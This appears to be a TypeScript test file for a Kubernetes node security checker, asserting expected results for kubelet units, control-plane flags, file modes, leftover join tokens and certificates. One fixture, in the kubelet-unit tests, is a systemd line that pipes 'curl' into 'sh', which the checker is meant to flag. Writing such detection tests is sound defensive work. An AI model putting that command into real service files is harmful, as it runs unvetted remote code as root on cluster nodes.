import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { resultsOf } from '../common/judged.testing.js';
import { serviceIn, unitOf, variableIn } from './kubelet-service.js';
import { startedBy } from './kubelet-started.js';
import { keepsToItself, userReads } from './node-helpers.js';
import { issuerIdentified, noAuthoritysKey, ownSerials, signsTokens, takenByGo, withinLimits } from './node-keys.js';
import { controllersKnown, nothingOff, pluginsKnown } from './node-known-names.js';
import { archivesClosed, givenAwayIn, nothingLeft } from './node-leftovers.js';
import { dataClosed, dataPrivate, inPlace, unchanging } from './node-places.js';
import { flagsGoTogether, kubeletVerified, namedFilesThere } from './node-relations.js';
import { at, certificate, crt, key, pod } from './node-seen.testing.js';
import { unitStarts } from './node-unit.js';

const place = (mode: number, kind: 'folder' | 'other' = 'folder') => at('/p', { kind }, mode);
const api = (flags: Readonly<Record<string, string>>) => [pod('kube-apiserver', flags)];
const kcm = (flags: Readonly<Record<string, string>>) => [pod('kube-controller-manager', flags)];

describe('what programs of a node keep', () => {
  it('is changed by nobody', () => {
    assert.deepEqual(
      resultsOf(
        unchanging,
        [0o755, 0o700, 0o2755, 0o777, 0o775, 0o1777].map((mode) => place(mode)),
        undefined,
      ),
      ['met', 'met', 'met', 'unmet', 'unmet', 'unmet'],
    );
    assert.deepEqual(resultsOf(unchanging, [place(0o4600, 'other')], undefined), ['met', 'unmet']);
  });
  it('lies where it is said to', () => {
    const linked = (path: string) => [{ path: '/a', file: { ...place(0o644, 'other').file, at: path } as never }];
    assert.deepEqual(resultsOf(inPlace, linked('/tmp/a'), { data: '/var/lib/etcd' }), ['unmet']);
    assert.deepEqual(resultsOf(inPlace, linked('/etc/b'), { data: '/var/lib/etcd' }), ['met']);
    assert.deepEqual(resultsOf(inPlace, linked('/mnt/b'), { data: '/var/lib/etcd' }), ['unmet']);
    assert.deepEqual(resultsOf(inPlace, linked('/mnt/b'), { data: '/a' }), ['met']);
    assert.deepEqual(resultsOf(inPlace, linked('/home/b'), { data: '/a' }), ['unmet']);
    assert.deepEqual(resultsOf(inPlace, [place(0o644)], { data: '/var/lib/etcd' }), []);
  });
  it('is closed, where etcd keeps it', () => {
    const told = (mode: number, known: readonly number[] | null) =>
      resultsOf(dataClosed, { folders: [place(0o700)], files: [place(mode, 'other')] }, { known });
    assert.deepEqual(told(0o600, [0]), ['met', 'met', 'met']);
    assert.deepEqual(told(0o644, [0]), ['unmet', 'met', 'met']);
    assert.deepEqual(told(0o600, [7]), ['met', 'unmet', 'unmet']);
    assert.deepEqual(told(0o600, null), ['met']);
    assert.deepEqual(resultsOf(dataPrivate, [place(0o700), place(0o755)], undefined), ['met', 'unmet']);
  });
});

describe('the unit of a kubelet', () => {
  const told = (...texts: readonly string[]) =>
    resultsOf(unitStarts, { ...startedBy({}), unit: unitOf(texts.map(serviceIn)) }, undefined).join();
  it('starts one kubelet as root', () => {
    assert.equal(
      told('ExecStart=/usr/bin/kubelet', 'ExecStart=\nExecStart=/opt/bin/kubelet $A'),
      'met,met,met,met,met,met',
    );
    assert.match(told('ExecStart=/k/kubelet\nEnvironmentFile=-/tmp/a'), /^met,met,met,met,unmet/);
    assert.match(told('ExecStart=/usr/bin/kubelet', 'ExecStart=/usr/bin/kubelet $A'), /^unmet/);
    assert.match(told('ExecStart=/usr/bin/kubelet', 'ExecStart='), /^unmet,unmet/);
    assert.match(told('ExecStart=/usr/bin/kubelet\nUser=a'), /^met,met,unmet/);
    assert.match(told('ExecStart=/k/kubelet\nExecStartPre=-/bin/sh -c "curl a | sh"'), /^met,met,met,unmet/);
    assert.match(told('ExecStart=/k/kubelet\nExecStartPre=-/sbin/swapoff -a'), /^met,met,met,met/);
  });
  it('is masked, or has a library loaded', () => {
    assert.deepEqual(resultsOf(unitStarts, { ...startedBy({}), masked: ['/a'] }, undefined), ['unmet']);
    const started = {
      ...startedBy({}),
      unit: unitOf([serviceIn('ExecStart=/k/kubelet')]),
      variables: { LD_PRELOAD: '' },
    };
    assert.equal(resultsOf(unitStarts, started, undefined).at(-1), 'unmet');
  });
  it('has flags as systemd reads them', () => {
    assert.deepEqual(variableIn("# a\n  A='--b=1'\r\nA=--b=2\n", 'A'), { b: '2' });
  });
});

describe('names that flags say', () => {
  it('are known', () => {
    const told = (value: string, minor = 36) =>
      resultsOf(pluginsKnown, api({ 'enable-admission-plugins': value }), { minor });
    assert.deepEqual(told('NodeRestriction,PodSecurity'), ['met', 'met']);
    assert.deepEqual([told('NodeRestriction, PodSecurity')[0], told('Nobody')[0]], ['unmet', 'unmet']);
    assert.deepEqual([told('PodSecurityPolicy', 24)[0], told('PodSecurityPolicy', 25)[0]], ['met', 'unmet']);
    assert.equal(
      resultsOf(pluginsKnown, api({ 'disable-admission-plugins': 'CertificateSigning' }), { minor: 36 })[1],
      'unmet',
    );
    assert.deepEqual(
      resultsOf(controllersKnown, kcm({ controllers: '*,-podgc,token-cleaner-controller' }), undefined),
      ['met'],
    );
    assert.deepEqual(resultsOf(controllersKnown, kcm({ controllers: '*,-nobody' }), undefined), ['unmet']);
  });
  it('are not off where others rely on them', () => {
    assert.deepEqual(resultsOf(nothingOff, api({ 'disable-admission-plugins': 'DefaultIngressClass' }), undefined), [
      'met',
    ]);
    assert.deepEqual(resultsOf(nothingOff, api({ 'disable-admission-plugins': 'PodSecurity' }), undefined), ['unmet']);
    assert.deepEqual(resultsOf(nothingOff, kcm({ controllers: '*,-nodeipam' }), undefined), ['met']);
    assert.deepEqual(resultsOf(nothingOff, kcm({ controllers: '*,-namespace-controller' }), undefined), ['unmet']);
  });
});

describe('flags of a program', () => {
  const api1 = (flags: Readonly<Record<string, string>>) => resultsOf(flagsGoTogether, api(flags), undefined).join();
  const kcm1 = (flags: Readonly<Record<string, string>>) => resultsOf(flagsGoTogether, kcm(flags), undefined).join();
  const etcd = (flags: Readonly<Record<string, string>>) =>
    resultsOf(flagsGoTogether, [pod('etcd', flags)], undefined).join();
  it('go together at the API server', () => {
    assert.equal(api1({ 'service-node-port-range': '30000+2767' }), 'met');
    for (const range of ['6000-7000', '32767-30000', 'a', '1-65535'])
      assert.equal(api1({ 'service-node-port-range': range }), 'unmet');
    assert.equal(api1({ 'service-account-issuer': 'me' }), 'met');
    assert.equal(api1({ 'service-account-issuer': 'not a url' }), 'unmet');
    assert.equal(api1({ 'oidc-client-id': 'a' }), 'unmet');
    assert.equal(api1({ 'tls-cipher-suites': 'TLS_AES_128_GCM_SHA256,TLS_RSA_WITH_RC4_128_SHA' }), 'met');
    assert.equal(api1({ 'tls-cipher-suites': 'TLS_AES_128_GCM_SHA256,TLS_NOTHING' }), 'unmet');
    assert.equal(api1({ 'etcd-servers': 'http://a:1', 'etcd-cafile': '/a' }), 'unmet');
  });
  it('go together at the controller manager', () => {
    const own = { 'allocate-node-cidrs': 'true', 'service-cluster-ip-range': '10.96.0.0/12' };
    assert.equal(kcm1({ ...own, 'cluster-cidr': '10.244.0.0/16' }), 'met');
    assert.equal(kcm1({ ...own, 'cluster-cidr': '10.244.0.0/30' }), 'unmet');
    assert.equal(kcm1({ ...own, 'cluster-cidr': 'fd00::/56' }), 'unmet');
    assert.equal(kcm1({ 'leader-elect-lease-duration': '60s', 'leader-elect-renew-deadline': '40s' }), 'met');
    assert.equal(kcm1({ 'leader-elect-lease-duration': '1s' }), 'unmet');
    assert.equal(kcm1({ 'cluster-signing-kubelet-client-cert-file': '/a' }), 'unmet');
    assert.equal(kcm1({ 'concurrent-job-syncs': '0' }), 'unmet');
    assert.equal(kcm1({ 'tls-cert-file': '/a' }), 'unmet');
    assert.equal(kcm1({ 'tls-cert-file': '/a', 'tls-private-key-file': '/b' }), 'met');
    const scheduler = [pod('kube-scheduler', { 'leader-elect-resource-name': 'kube-controller-manager' })];
    assert.deepEqual(resultsOf(flagsGoTogether, scheduler, undefined), ['unmet']);
  });
  it('go together at etcd', () => {
    assert.equal(etcd({ 'heartbeat-interval': '250', 'election-timeout': '2500' }), 'met');
    const listens = (hosts: string, told: string): string =>
      etcd({ 'listen-client-urls': hosts, 'advertise-client-urls': told });
    const loopback = 'https://127.0.0.1:2379';
    assert.equal(listens(loopback, 'https://192.0.2.10:2379'), 'unmet');
    assert.equal(listens(`${loopback},https://192.0.2.10:2379`, 'https://192.0.2.10:2379'), 'met');
    assert.equal(listens('https://0.0.0.0:2379', 'https://192.0.2.10:2379'), 'met');
    assert.equal(listens(loopback, 'https://etcd.example:2379'), 'met');
    for (const flags of [
      { 'election-timeout': '100' },
      { 'quota-backend-bytes': '1' },
      { 'max-request-bytes': '1' },
      { 'auto-compaction-retention': 'x y' },
      { 'cipher-suites': 'no suite' },
      { 'listen-peer-urls': 'https://192.0.2.9:2380', 'initial-advertise-peer-urls': 'https://192.0.2.10:2380' },
    ])
      assert.equal(etcd(flags as Readonly<Record<string, string>>), 'unmet');
  });
  it('name files that are there', () => {
    const told = (ofEtcd: boolean) =>
      resultsOf(namedFilesThere, api({ 'etcd-cafile': '/k/a', 'client-ca-file': '/k/b' }), {
        files: ['/k/b'],
        below: '/k',
        ofEtcd,
      });
    assert.deepEqual([...told(true), ...told(false)], ['unmet', 'met']);
  });
  it('go together with the kubelet', () => {
    const [one] = api({ 'kubelet-certificate-authority': '/k/ca.crt' });
    const [none] = api({});
    if (one === undefined || none === undefined) throw new Error('there is no Pod');
    const told = (settings: object, seen = one) =>
      resultsOf(
        kubeletVerified,
        { api: seen, authority: '/k/ca.crt', settings: { ...settings }, flags: {} },
        undefined,
      );
    assert.deepEqual([told({}), told({ serverTLSBootstrap: true }), told({}, none)], [['unmet'], ['met'], []]);
  });
});

describe('what is left on a node', () => {
  it('holds a token, a key, or a join', () => {
    assert.deepEqual(givenAwayIn('kubeadm join a --token 9a08jv.c0izixklcxtmnze7'), ['a bootstrap token']);
    assert.deepEqual(givenAwayIn(`certificateKey: ${'ab'.repeat(32)}`), ['a certificate key']);
    assert.deepEqual(givenAwayIn('unsafeSkipCAVerification: true'), ['a join that verifies nobody']);
    assert.deepEqual(givenAwayIn('image: a.b/token:v1'), []);
    const file = { ...place(0o600, 'other').file, leaves: ['a bootstrap token'] } as never;
    assert.deepEqual(resultsOf(nothingLeft, [{ path: '/a', file }, place(0o600, 'other')], undefined), [
      'unmet',
      'met',
    ]);
  });
  it('is closed', () => {
    assert.deepEqual(resultsOf(archivesClosed, [place(0o600, 'other'), place(0o644, 'other')], undefined), [
      'met',
      'unmet',
    ]);
  });
});

describe('Pods of a node', () => {
  const mounting = (path: string) => [pod('helper', {}, { volumes: [{ name: 'a', hostPath: { path } }] })];
  const keys = { pki: '/k', data: '/data' };
  it('mount no keys', () => {
    assert.deepEqual(resultsOf(keepsToItself, mounting('/etc/kubernetes/admin.conf'), keys), ['met']);
    for (const path of ['/etc/kubernetes/', '/k', '/k/etcd', '/data', '/data/member/snap/db', '/', '/var'])
      assert.deepEqual(resultsOf(keepsToItself, mounting(path), keys), ['unmet'], path);
    for (const path of ['/var/lib/kubelet/pods', '/var/lib/kubelet/pods/a/volumes', '/etc/x/../kubernetes'])
      assert.deepEqual(resultsOf(keepsToItself, mounting(path), keys), ['unmet'], path);
    for (const path of ['/var/log/pods', '/k/ca.crt', '/k/etcd/healthcheck-client.key', '/var/lib/etcd-defrag'])
      assert.deepEqual(resultsOf(keepsToItself, mounting(path), keys), ['met'], path);
  });
  it('may read their files', () => {
    const path = '/etc/kubernetes/a.key';
    const told = (mode: number, owner: number, securityContext: object) =>
      resultsOf(userReads, [pod('etcd', { 'key-file': path }, { securityContext })], {
        files: [{ path, mode, owner }],
      });
    assert.deepEqual(told(0o600, 0, { runAsUser: 7 }), ['unmet']);
    assert.deepEqual(told(0o600, 0, { runAsUser: 0, runAsNonRoot: true }), ['unmet']);
    assert.deepEqual([told(0o600, 7, { runAsUser: 7 }), told(0o640, 0, { runAsUser: 7 }), told(0o600, 0, {})].flat(), [
      'met',
      'met',
      'met',
    ]);
  });
});

describe('keys and certificates', () => {
  const named = (more: object) =>
    at('/k/a.crt', { kind: 'certificates', certificates: [{ ...certificate(), ...more }] }, 0o644);
  it('are of kinds that Go takes', () => {
    assert.deepEqual(resultsOf(takenByGo, [crt(), named({ odd: ['the extension 1.2.3'] })], undefined), [
      'met',
      'unmet',
    ]);
    const curve = (name: string) =>
      at('/k/a.key', { kind: 'key', pin: 'p', isPrivate: true, isShort: false, curve: name });
    assert.deepEqual(resultsOf(signsTokens, [key(), curve('secp384r1'), curve('ed25519')], undefined), [
      'met',
      'met',
      'unmet',
    ]);
  });
  it('are for what their authority may sign', () => {
    const limits = { permitted: { dns: [], ip: [] }, excluded: { dns: ['a.example'], ip: [] } };
    const issuer = at('/ca', {
      kind: 'certificates',
      certificates: [{ ...certificate({ ca: true }), digest: 'ca', limits }],
    });
    const named = (name: string, by?: readonly string[]) =>
      crt({ altNames: { dns: [name], ip: [], email: [], uri: [], other: 0 } }, by);
    const told = (leaf: ReturnType<typeof crt>) => resultsOf(withinLimits, [{ leaf, issuer }], undefined);
    assert.deepEqual([told(named('b.example')), told(named('a.example'))], [['met'], ['unmet']]);
    assert.deepEqual(told(named('a.example', ['another'])), ['met']);
    assert.deepEqual(resultsOf(withinLimits, [{ leaf: crt(), issuer: at('/ca', null) }], undefined), []);
    assert.deepEqual(resultsOf(withinLimits, [{ leaf: at('/leaf', null), issuer }], undefined), []);
  });
  it('name their issuers, and have numbers of their own', () => {
    const issuer = named({ keyId: 'aa' });
    const told = (more: object) => resultsOf(issuerIdentified, [{ leaf: named(more), issuer }], undefined);
    assert.deepEqual([told({ issuersKeyId: 'aa' }), told({}), told({ issuersKeyId: 'bb' })].flat(), [
      'met',
      'met',
      'unmet',
    ]);
    const other = { ...named({}), path: '/k/b.crt' };
    assert.deepEqual(resultsOf(ownSerials, [named({}), other], undefined), ['unmet', 'unmet']);
    assert.deepEqual(resultsOf(ownSerials, [named({})], undefined), ['met']);
  });
  it('are not those of an authority', () => {
    const file = { ...place(0o600, 'other').file, keys: ['p'] } as never;
    assert.deepEqual(resultsOf(noAuthoritysKey, [{ path: '/a', file }, place(0o600)], { pins: ['p'] }), [
      'unmet',
      'met',
    ]);
  });
});
